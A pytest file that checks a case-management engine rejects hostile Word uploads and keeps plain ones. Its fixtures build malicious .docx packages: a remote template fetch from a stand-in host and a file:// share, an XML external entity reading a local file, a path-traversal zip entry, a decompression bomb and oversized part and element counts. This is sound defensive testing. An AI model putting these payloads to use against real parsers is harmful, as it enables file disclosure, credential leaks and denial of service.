"""Hostile Word files handed in with answers: refused at their question, and nothing is kept."""

import io
import re
import zipfile
from collections.abc import Callable

import pytest

from engine.api import Engine
from engine.commands.save_draft import SaveDraft
from engine.commands.start_case import StartCase
from engine.errors import AnswersRejected
from engine.people.actor import Actor

KINDS = b"""<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">
<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.\
wordprocessingml.document.main+xml"/></Types>"""
LINKS = """<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
{}</Relationships>"""
TEXT = '<Relationship Id="t" Type="x/officeDocument" Target="word/document.xml"/>'
TEMPLATE = '<Relationship Id="r" Type="x/attachedTemplate" TargetMode="External" Target="{}"/>'
PLAIN = {
    "[Content_Types].xml": KINDS,
    "_rels/.rels": LINKS.format(TEXT).encode(),
    "word/document.xml": b"<a/>",
}


def word(*more: tuple[str, bytes]) -> bytes:
    kept = io.BytesIO()
    with zipfile.ZipFile(kept, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in (*PLAIN.items(), *more):
            archive.writestr(name, content)
    return kept.getvalue()


def fetching(target: str) -> tuple[str, bytes]:
    return "word/_rels/settings.xml.rels", LINKS.format(TEMPLATE.format(target)).encode()


HOSTILE: dict[str, Callable[[], bytes]] = {  # made when they are asked for: some take a while
    "a template from outside": lambda: word(fetching("http://elsewhere.example/x.dotm")),
    "a share on the network": lambda: word(fetching("file://elsewhere.example/share/x.dotm")),
    "an entity": lambda: word(
        ("word/a.xml", b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///x">]><a>&x;</a>')
    ),
    "an object": lambda: word(("word/embeddings/o.bin", b"x")),
    "a part that leads out": lambda: word(("../../x", b"x")),
    "a bomb": lambda: word(("word/media/a.bin", b"0" * 30_000_000)),
    "a crowd of parts": lambda: word(*((f"m{n}", b"") for n in range(20_000))),
    "a crowd of elements": lambda: word(("word/b.xml", b"<a>" + b"<b/>" * 1_100_000 + b"</a>")),
}


@pytest.fixture
def save(engine: Engine, someone: Callable[..., Actor]) -> Callable[[bytes], dict[str, str]]:
    """Saves a draft of a first task with a file as its request."""
    lead = someone("force_lead")
    task = engine.do(StartCase("section_26", "lancashire"), lead)

    def handed_in(content: bytes) -> dict[str, str]:
        upload = {"name": "request.docx", "content": content, "media_type": "x"}
        return engine.do(SaveDraft(task, {"request_letter": upload}), lead)

    return handed_in


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_word_file_is_refused_at_its_question(
    name: str, save: Callable[[bytes], dict[str, str]]
) -> None:
    try:
        problems = save(HOSTILE[name]())
    except AnswersRejected as refused:
        problems = refused.problems

    assert re.search("upload that|cannot be kept", problems["request_letter"])


def test_a_plain_word_file_is_kept(save: Callable[[bytes], dict[str, str]]) -> None:
    assert "request_letter" not in save(word())
